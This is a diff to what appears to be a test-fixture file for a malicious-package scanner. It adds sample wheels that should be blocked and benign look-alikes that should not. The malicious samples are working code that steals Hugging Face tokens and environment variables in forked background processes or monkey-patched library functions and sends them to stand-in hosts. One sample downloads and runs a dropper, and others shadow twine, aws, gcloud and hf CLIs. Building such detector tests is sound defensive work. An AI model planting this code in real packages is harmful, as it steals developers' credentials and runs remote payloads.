@@ -280,6 +280,85 @@ subprocess.Popen(["rundll32.exe", os.path.join(os.path.dirname(__file__), "theme
         {"hfxfer/cli.py": "def main():\n    pass\n"},
         "[console_scripts]\nhuggingface-cli = hfxfer.cli:main\n",
     ),
+    # a console script named like a tool the user runs anyway: its main() forks, the
+    # parent returns at once, the child (out of the user's sight) sends the hub token
+    "console-script-forks": (
+        "wheel",
+        {
+            "hfxfer/cli.py": """
+import os, socket
+def _token():
+    return open(os.path.expanduser("~/.cache/huggingface/token")).read()
+def main():
+    if os.fork():
+        return 0
+    os.setsid()
+    s = socket.create_connection(("203.0.113.9", 443))
+    s.sendall(_token().encode())
+""",
+        },
+        "[console_scripts]\nhfxfer = hfxfer.cli:main\n",
+    ),
+    # a console script whose main() daemonizes a dropper (no secret read at all)
+    "console-script-daemonizes-dropper": (
+        "wheel",
+        {
+            "awsx/cli.py": """
+import os, subprocess, urllib.request
+def main():
+    if os.fork():
+        return
+    os.setsid()
+    data = urllib.request.urlopen("https://cdn.awsx.example/agent").read()
+    open("/tmp/.agent", "wb").write(data)
+    subprocess.Popen(["sh", "/tmp/.agent"])
+""",
+        },
+        "[console_scripts]\nawsx = awsx.cli:main\n",
+    ),
+    # the patch wrapped the way the object model calls it (a classmethod), so the
+    # payload runs in the user's own from_pretrained call
+    "monkey-patched-classmethod": (
+        "wheel",
+        {
+            "hubfast/__init__.py": """
+import os, requests, transformers
+_orig = transformers.PreTrainedModel.from_pretrained
+def _from_pretrained(cls, *a, **k):
+    requests.post("https://hubfast.example/u", json={"t": os.environ.get("HF_TOKEN")})
+    return _orig.__func__(cls, *a, **k)
+transformers.PreTrainedModel.from_pretrained = classmethod(_from_pretrained)
+""",
+        },
+        "",
+    ),
+    # the same through functools.wraps and setattr
+    "monkey-patched-wraps-setattr": (
+        "wheel",
+        {
+            "hubfast/__init__.py": """
+import functools, os, requests, torch.hub
+_orig = torch.hub.download_url_to_file
+def _dl(url, dst, *a, **k):
+    requests.post("https://hubfast.example/d", json=dict(os.environ))
+    return _orig(url, dst, *a, **k)
+setattr(torch.hub, "download_url_to_file", functools.wraps(_orig)(_dl))
+""",
+        },
+        "",
+    ),
+    # shadowing the other token-holding CLIs the issue names
+    "shadow-twine": (
+        "wheel",
+        {"twinefast/cli.py": "def main():\n    pass\n"},
+        "[console_scripts]\ntwine = twinefast.cli:main\n",
+    ),
+    "shadow-aws-gcloud-hf": (
+        "wheel",
+        {"cloudcli/cli.py": "def main():\n    pass\n"},
+        "[console_scripts]\naws = cloudcli.cli:main\ngcloud = cloudcli.cli:main\n"
+        "hf = cloudcli.cli:main\n",
+    ),
     # lightning-shaped stealer split across three modules that __init__ wires on import
     "split-across-modules": (
         "wheel",
@@ -366,6 +445,42 @@ def perm(private_key):
 
 # name -> (kind, files, entry_points); none may block
 BENIGN: dict[str, tuple[str, dict[str, str], str]] = {
+    # a CLI that daemonizes a local server: it forks, but sends nothing and reads no secret
+    "daemonizing-cli": (
+        "wheel",
+        {
+            "devsrv/cli.py": """
+import http.server, os, sys
+def main():
+    if os.fork():
+        sys.exit(0)
+    os.setsid()
+    null = os.open(os.devnull, os.O_RDWR)
+    for fd in (0, 1, 2):
+        os.dup2(null, fd)
+    with open(os.path.expanduser("~/.devsrv.pid"), "w") as fh:
+        fh.write(str(os.getpid()))
+    handler = http.server.SimpleHTTPRequestHandler
+    http.server.ThreadingHTTPServer(("127.0.0.1", 8000), handler).serve_forever()
+""",
+        },
+        "[console_scripts]\ndevsrv = devsrv.cli:main\n",
+    ),
+    # a CLI that uses the hub token for the user, in the foreground (no fork)
+    "hub-cli-foreground": (
+        "wheel",
+        {
+            "hubsync/cli.py": """
+import os, requests
+def main():
+    token = open(os.path.expanduser("~/.cache/huggingface/token")).read().strip()
+    auth = {"authorization": f"Bearer {token}"}
+    r = requests.get("https://huggingface.co/api/whoami-v2", headers=auth)
+    print(r.json()["name"])
+""",
+        },
+        "[console_scripts]\nhubsync = hubsync.cli:main\n",
+    ),
     "release-tool-pypirc": (
         "wheel",
         {
